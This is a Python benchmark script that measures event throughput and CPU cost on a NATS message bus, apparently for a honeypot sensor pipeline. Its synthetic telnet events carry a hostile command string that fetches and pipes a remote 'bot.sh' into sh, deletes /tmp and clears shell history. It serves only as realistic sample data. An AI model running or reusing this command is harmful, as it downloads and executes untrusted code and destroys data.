# SPDX-License-Identifier: Apache-2.0
"""How many events per second go through the bus, durably, and what they cost.

    .venv/bin/python benchmarks/bus_rate.py [EVENTS]

One process publishes and then reads on a child nats-server with `sync_interval: always`. CPU seconds are
those of this process and of the nats-server; they are steadier than the rates on a shared machine.
"""

from __future__ import annotations

import asyncio
import os
import platform
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path

from mead.bus.client import Bus
from mead.bus.events import EventReader
from mead.bus.publisher import Publisher, PublisherSettings
from mead.bus.server import NatsServer
from mead.model.codec import encode_event
from mead.model.event import CommandInput

BURST = 1000


def event(number: int) -> CommandInput:
    return CommandInput(
        time=datetime.now(UTC),
        sensor="bench",
        session=f"{number:016x}",
        src="192.0.2.7",
        src_port=number % 65536,
        dst="198.51.100.9",
        dst_port=23,
        transport="tcp",
        service="telnet",
        command=f"cd /tmp; wget http://192.0.2.1/{number}/bot.sh -O- | sh; rm -rf /tmp/*; history -c",
    )


def server_cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


@contextmanager
def measured(what: str, events: int, pid: int) -> Iterator[None]:
    wall, own, server = time.perf_counter(), time.process_time(), server_cpu_seconds(pid)
    yield
    wall = time.perf_counter() - wall
    own, server = time.process_time() - own, server_cpu_seconds(pid) - server
    scale = 1e6 / events
    print(
        f"{what:<28} {events / wall:>9,.0f} events/s   CPU-s per million:"
        f" {own * scale:5.1f} here, {server * scale:5.1f} nats-server"
    )


async def run(directory: Path, events: int) -> None:
    async with NatsServer(directory) as server, Bus.connect(server.credentials) as bus:
        assert server.pid
        for compression in ("zlib", "none"):
            settings = PublisherSettings(compression=compression, memory_events=events)
            async with Publisher(bus, f"bench-{compression}", settings) as publisher:
                with measured(f"publish, {compression}", events, server.pid):
                    for start in range(0, events, BURST):
                        for number in range(start, start + BURST):
                            publisher.publish(event(number))
                        await asyncio.sleep(0)
                    await publisher.flush()
                assert publisher.acknowledged == events
            with measured(f"read, {compression}", events, server.pid):
                left = events
                async with EventReader(bus, f"EVENTS_bench-{compression}") as reader:
                    while left:
                        left -= len((await anext(reader)).events)
        single = events // 100
        async with Publisher(bus, "bench-single") as publisher:
            with measured("publish durably, one by one", single, server.pid):
                for number in range(single):
                    await publisher.publish_durably([event(number)])


def main() -> None:
    events = int(sys.argv[1]) if len(sys.argv) > 1 else 200_000
    commit = subprocess.run(
        ["git", "rev-parse", "--short", "HEAD"], capture_output=True, text=True, check=False
    )
    print(
        f"{platform.machine()}, {os.cpu_count()} CPUs, Linux {platform.release()},"
        f" Python {platform.python_version()}"
    )
    print(
        f"commit {commit.stdout.strip() or 'unknown'}, {events} events of {len(encode_event(event(1)))} bytes"
    )
    directory = Path(tempfile.mkdtemp(prefix="mead-bench-"))
    try:
        asyncio.run(run(directory, events))
    finally:
        shutil.rmtree(directory)


if __name__ == "__main__":
    main()
